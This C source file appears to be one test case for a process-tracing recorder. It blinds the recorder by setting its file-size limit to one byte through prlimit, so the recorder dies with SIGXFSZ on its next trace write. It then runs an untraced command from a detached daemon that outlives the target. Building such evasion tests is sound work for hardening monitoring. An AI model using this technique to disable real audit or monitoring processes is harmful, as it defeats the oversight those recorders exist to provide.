/* prlimit(RECORDER, RLIMIT_FSIZE, 1 byte): the recorder's next write to its trace fails with
 * EFBIG and SIGXFSZ (whose default action kills it); then fork + exec /bin/touch
 * rtm4_after_fsize. No signal is sent by the program, nothing is written to the trace. The
 * attack runs in a daemon (double fork + setsid) so that it survives the target. */
#include "r4.h"
#include <sys/resource.h>
static void attack(pid_t rec)
{
    struct rlimit old, lim;
    if (prlimit(rec, RLIMIT_FSIZE, NULL, &old) < 0)
        DIE("prlimit get");
    lim.rlim_cur = 1;
    lim.rlim_max = old.rlim_max;
    int rc = prlimit(rec, RLIMIT_FSIZE, &lim, NULL);
    usleep(300000);
    char *argv[] = {"/bin/touch", SCRATCH "/rtm4_after_fsize", NULL};
    int st = spawn_wait(argv);
    usleep(300000);
    did("prlimit(recorder %d, RLIMIT_FSIZE, 1) -> %d; then touch: status %d", rec, rc, st);
}
int main(void)
{
    pid_t rec = find_recorder();
    if (!rec) {
        fprintf(stderr, "no recorder ancestor\n");
        return 1;
    }
    return in_daemon(rec, attack, SCRATCH "/rtm4_after_fsize");
}
